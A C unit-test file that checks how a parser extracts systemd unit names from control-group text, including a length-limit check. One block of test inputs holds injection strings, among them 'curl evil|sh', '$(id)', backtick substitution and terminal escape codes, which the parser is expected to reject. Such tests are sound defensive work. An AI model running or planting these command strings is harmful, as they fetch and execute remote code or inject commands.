/* running.c: which unit a process is in, by the text of its control groups; its user may have named one as he likes. */
#include <stdio.h>
#include <string.h>

#include "doctor/processes.h"
#include "unit.h"

static void units(void)
{
    static const struct {
        const char *text, *unit;
    } cases[] = {
        { "0::/system.slice/nginx.service\n", "nginx.service" },
        { "0::/system.slice/system-postgresql.slice/postgresql@15-main.service\n", "postgresql@15-main.service" },
        { "0::/user.slice/user-1000.slice/user@1000.service/app.slice/web\\x2done.service/sub\n", "web\\x2done.service" },
        { "12:pids:/system.slice/a.service\n1:name=systemd:/system.slice/a.service\n0::/\n", "a.service" },
        { "0::/\n", "" },
        { "0::/system.slice/ssh.socket\n", "" },
        { "0::/system.slice/.service\n", "" },
        { "", "" },
        /* The names of a control group, and of no unit. */
        { "0::/user.slice/x;curl evil|sh #.service\n", "" },
        { "0::/user.slice/x$(id).service\n", "" },
        { "0::/user.slice/x`id`.service\n", "" },
        { "0::/user.slice/x y.service\n", "" },
        { "0::/user.slice/x\033[2J.service\n", "" },
        { "0::/user.slice/x\302\2332J.service\n", "" },
        { "0::/user.slice/'x'.service\n", "" },
        { "0::/user.slice/--force.service\n", "" },
        { "0::/system.slice/nginx.service/x;y.service\n", "nginx.service" },
    };
    char text[1000], unit[RUNNING_UNIT_SIZE], longest[RUNNING_UNIT_SIZE];

    for (size_t i = 0; i < COUNT(cases); i++) {
        snprintf(text, sizeof(text), "%s", cases[i].text);
        running_unit(text, unit);
        TEXT_IS(unit, cases[i].unit);
    }
    memset(longest, 'a', sizeof(longest));
    memcpy(longest + sizeof(longest) - sizeof(".service"), ".service", sizeof(".service"));
    snprintf(text, sizeof(text), "0::/%s\n", longest);
    running_unit(text, unit);
    TEXT_IS(unit, longest);
    snprintf(text, sizeof(text), "0::/a%s\n", longest);
    running_unit(text, unit);
    TEXT_IS(unit, "");
}

static const struct unit_test tests[] = {
    { "units", units },
    { NULL, NULL },
};
const struct unit_suite suite_running = { "running", tests };
